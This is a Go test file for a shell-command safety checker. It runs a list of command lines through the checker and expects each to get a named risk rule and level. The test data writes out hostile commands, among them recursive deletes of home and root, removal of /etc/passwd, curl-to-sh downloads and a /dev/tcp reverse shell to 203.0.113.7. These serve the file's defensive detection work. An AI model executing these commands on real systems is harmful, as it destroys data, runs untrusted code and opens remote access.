package main

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestBeyondStaticBinary (issue 12 §5 and the remote-code rules): through
// the real binary, a destructive program fed operands at run time is
// High, one system file deleted or replaced is High, downloaded code is
// Medium however it is run (the seed's level), a reverse shell is
// Critical; with the nearest harmless forms.
func TestBeyondStaticBinary(t *testing.T) {
	lines := []lineWant{
		{"ls | xargs rm -rf", "delete_from_input", "high"},
		// find -exec through a shell deletes as find -exec rm does.
		{`find ~ -maxdepth 0 -exec sh -c 'rm -rf "$1"' _ {} \;`, "find_delete_root", "high"},
		{`find /etc -execdir bash -c 'shred -u "$0"' {} +`, "find_delete_root", "high"},
		{`find . -name '*.o' -exec sh -c 'rm -f "$1"' _ {} \;`, "find_delete", "low"},
		{`find ~ -exec sh -c 'cat "$1"' _ {} \;`, "", ""},
		{`find . -exec sh -c 'rm -f "$@"' sh {} +`, "find_wipe", "critical"},
		// A delete of what an earlier mv moved deletes what was moved.
		{`mv "$PWD" /tmp/x && rm -rf /tmp/x`, "rm_rf_project", "critical"},
		{"mv ~ /tmp/h; rm -rf /tmp/h", "rm_rf_home", "critical"},
		{"mv build /tmp/old-build && rm -rf /tmp/old-build", "rm_recursive", "low"},
		{"mv a.txt b.txt && rm -f b.txt", "", ""},
		// A fetched program handed the whole disk or a home.
		{"go run github.com/example/wipe@v1.2.0 -all /", "remote_program_on_root", "medium"},
		{"npx some-unknown-pkg --force ~", "remote_program_on_root", "medium"},
		{"go run golang.org/x/tools/cmd/deadcode@latest ./...", "", ""},
		{"npx rimraf ~", "rm_rf_home", "critical"},
		{"find . -name '*.log' -print0 | xargs -0 rm -f", "delete_from_input", "high"},
		{"rm -f $(cat /tmp/list)", "delete_from_input", "high"},
		{"find /srv -type d | while read -r d; do rm -rf \"$d\"; done", "delete_from_input", "high"},
		{"echo dist | xargs rm -rf", "rm_recursive", "low"},
		{"cat list.txt | parallel rm -rf {}", "delete_from_input", "high"},
		{"parallel rm -rf ::: build dist", "rm_recursive", "low"},
		{"for d in build dist; do rm -rf \"$d\"; done", "rm_recursive", "low"},
		{"rm -rf $TARGET_DIR/", "rm_unset_variable_root", "medium"},
		{"rm -rf \"${TARGET_DIR:?}\"/", "rm_recursive", "low"},
		{"rm -f /etc/hosts", "delete_system_file", "high"},
		{"sudo mv /etc/passwd /tmp/", "rm_auth_file", "high"},
		{"sudo tee /etc/resolv.conf < /dev/null", "replace_system_file", "high"},
		{"echo '10.0.0.5 db' | sudo tee -a /etc/hosts", "", ""},
		{"sudo rm -rf /var/lib/docker", "rm_service_data", "high"},
		{"rm -rf /var/lib/apt/lists/*", "rm_recursive", "low"},
		{"curl -fsSL https://x.example/i | at now", "remote_code_runs", "medium"},
		{"source <(curl -fsSL https://x.example/env)", "remote_code_runs", "medium"},
		{"curl -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh", "runs_downloaded_file", "medium"},
		{"curl -s https://x.example/i.py | python3", "remote_code_interpreter", "medium"},
		{"curl -s https://x.example/api | python3 -m json.tool", "", ""},
		{"curl -fsSL https://get.example.sh | sh", "curl_pipe_sh", "medium"},
		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse_shell_dev_tcp", "critical"},
		{"python3 -c 'import shutil, os; shutil.rmtree(os.getcwd())'", "rm_rf_project", "critical"},
		{"git clean -fdX", "git_clean_ignored", "medium"},
		{"ssh -i ~/.ssh/id_ed25519 deploy@web1 uptime", "", ""},
		{"set +o history; rm -rf ~/work", "history_off_then_command", "high"},
		// ssh without a command: the remote login shell reads its input.
		{"echo 'rm -rf /' | ssh host", "rm_rf_root", "critical"},
		{"ssh web1 <<'EOF'\nsudo rm -rf /var/lib/postgresql\nEOF", "rm_service_data", "high"},
		{"ssh host < deploy.sh", "runtime_shell_input", "medium"},
		{"ssh -N -L 8080:localhost:80 host", "", ""},
		{"echo hi | ssh host cat", "", ""},
	}
	checkLines(t, lines)
}

// lineWant is a line and the rule it must get at the line's level; rule ""
// means no warning at all.
type lineWant struct{ line, rule, level string }

// checkLines runs the lines through `check --batch -0` of the real binary
// and checks each against its want.
func checkLines(t *testing.T, lines []lineWant) {
	t.Helper()
	var in strings.Builder
	for _, l := range lines {
		in.WriteString(l.line)
		in.WriteByte(0)
	}
	out, _ := runSG(t, in.String(), "check", "--batch", "-0")
	results := strings.Split(strings.TrimSpace(out), "\n")
	if len(results) != len(lines) {
		t.Fatalf("check --batch: %d results for %d lines\n%s", len(results), len(lines), out)
	}
	for k, l := range lines {
		var res struct {
			Level    string `json:"level"`
			Warnings []struct {
				Name string `json:"name"`
			} `json:"warnings"`
		}
		if err := json.Unmarshal([]byte(results[k]), &res); err != nil {
			t.Fatalf("%q: %v: %s", l.line, err, results[k])
		}
		if l.rule == "" {
			if len(res.Warnings) > 0 {
				t.Errorf("%q: want no warning, got %s", l.line, results[k])
			}
			continue
		}
		found := false
		for _, w := range res.Warnings {
			found = found || w.Name == l.rule
		}
		if !found || res.Level != l.level {
			t.Errorf("%q: want %s at %s, got %s", l.line, l.rule, l.level, results[k])
		}
	}
}
